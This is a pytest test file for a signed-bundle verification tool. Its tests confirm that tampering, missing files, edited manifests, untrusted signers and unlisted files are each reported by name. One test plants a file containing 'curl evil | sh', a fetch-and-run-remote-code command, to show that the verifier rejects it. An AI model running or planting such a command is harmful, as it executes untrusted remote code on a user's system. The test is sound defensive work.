"""A signed bundle directory: verified whole, and every kind of damage named by file."""

import hashlib
import json

import pytest

from ansible_collections.miniapp.mesh.plugins.module_utils import bundle
from tools import bundle as bundle_tool

ENTRY = {
    "version": "1.0",
    "arch": "amd64",
    "file": "tool.tar.gz",
    "source": "https://example.invalid/tool.tar.gz",
    "license": "MIT",
}


@pytest.fixture
def signed(tmp_path, monkeypatch):
    monkeypatch.setattr(bundle_tool, "SIGNING_KEY", tmp_path / "key" / "signing.key")
    out = tmp_path / "bundle"
    out.mkdir()
    (out / "tool.tar.gz").write_bytes(b"tool")
    manifest = bundle.build_manifest(
        [bundle.manifest_entry("tool", ENTRY, 4, hashlib.sha256(b"tool").hexdigest())], "2026-11-26T00:00:00Z"
    )
    bundle_tool.write_signed(out, manifest)
    return out


def test_intact_bundle_verifies(signed):
    assert bundle_tool.verify_dir(signed, None) == []


def test_signing_key_is_private_and_reused(signed, tmp_path):
    key = tmp_path / "key" / "signing.key"
    assert key.stat().st_mode & 0o777 == 0o600
    first = (signed / "signing.pub").read_bytes()
    assert (tmp_path / "key" / "signer.sha256").read_text().strip() == bundle.signer_fingerprint(first)
    bundle_tool.write_signed(signed, json.loads((signed / "manifest.json").read_text()))
    assert (signed / "signing.pub").read_bytes() == first


def test_tampered_artifact_is_named(signed):
    (signed / "tool.tar.gz").write_bytes(b"evil")
    (problem,) = bundle_tool.verify_dir(signed, None)
    assert problem.startswith("tool.tar.gz: sha256 ")
    assert "tampered" in problem


def test_missing_artifact_is_named_with_its_source(signed):
    (signed / "tool.tar.gz").unlink()
    assert bundle_tool.verify_dir(signed, None) == [
        "tool.tar.gz: missing from the bundle; fetch it on a connected machine with: "
        "python tools/bundle.py build BUNDLE_DIR tool@1.0 (source: https://example.invalid/tool.tar.gz)"
    ]


def test_edited_manifest_breaks_the_signature(signed):
    manifest = json.loads((signed / "manifest.json").read_text())
    manifest["artifacts"][0]["sha256"] = hashlib.sha256(b"evil").hexdigest()
    (signed / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True))
    assert bundle_tool.verify_dir(signed, None) == [
        "manifest.json: signature does not match; the manifest was changed after signing"
    ]


def test_untrusted_signer_is_refused(signed):
    (problem,) = bundle_tool.verify_dir(signed, "0" * 64)
    assert problem.startswith("signing.pub: signer ")
    assert problem.endswith("is not the trusted signer " + "0" * 64)


def test_missing_signature_is_named(signed):
    (signed / "manifest.json.sig").unlink()
    assert bundle_tool.verify_dir(signed, None) == [
        "manifest.json.sig: missing from " + str(signed) + "; rebuild the bundle with tools/bundle.py build"
    ]


def test_a_file_the_manifest_does_not_list_is_refused_by_name(signed):
    (signed / "payload.sh").write_text("curl evil | sh")
    (signed / ".tool.tar.gz.digest").write_text("the builder's marker of a listed artifact")
    assert bundle_tool.verify_dir(signed, None) == [
        f"payload.sh: not listed in the manifest; remove it from {signed} or rebuild the bundle"
    ]


def test_verify_needs_a_signer_or_says_it_trusts_on_first_use(signed, capsys):
    with pytest.raises(SystemExit):
        bundle_tool.main(["verify", str(signed)])
    assert "one of the arguments --signer --trust-on-first-use is required" in capsys.readouterr().err
    assert bundle_tool.main(["verify", str(signed), "--trust-on-first-use"]) == 0
    fingerprint = bundle.signer_fingerprint((signed / "signing.pub").read_bytes())
    assert f"TRUST ON FIRST USE: signed by {fingerprint}; pin it" in capsys.readouterr().out
    assert bundle_tool.main(["verify", str(signed), "--signer", fingerprint]) == 0


def test_a_rebuild_drops_the_artifacts_of_an_earlier_build_and_refuses_foreign_files(signed, monkeypatch):
    monkeypatch.setattr(bundle_tool, "table_entries", lambda _table: [("old", {"file": "old-0.9.tar.gz"})])
    manifest = json.loads((signed / "manifest.json").read_text())
    (signed / "old-0.9.tar.gz").write_bytes(b"an earlier build's artifact")
    bundle_tool.drop_stale(signed, manifest)
    assert not (signed / "old-0.9.tar.gz").exists()
    assert (signed / "tool.tar.gz").exists()
    (signed / "notes.txt").write_text("mine")
    with pytest.raises(SystemExit, match=r"notes\.txt not bundle artifacts; build into an empty directory"):
        bundle_tool.drop_stale(signed, manifest)
    assert (signed / "notes.txt").exists()
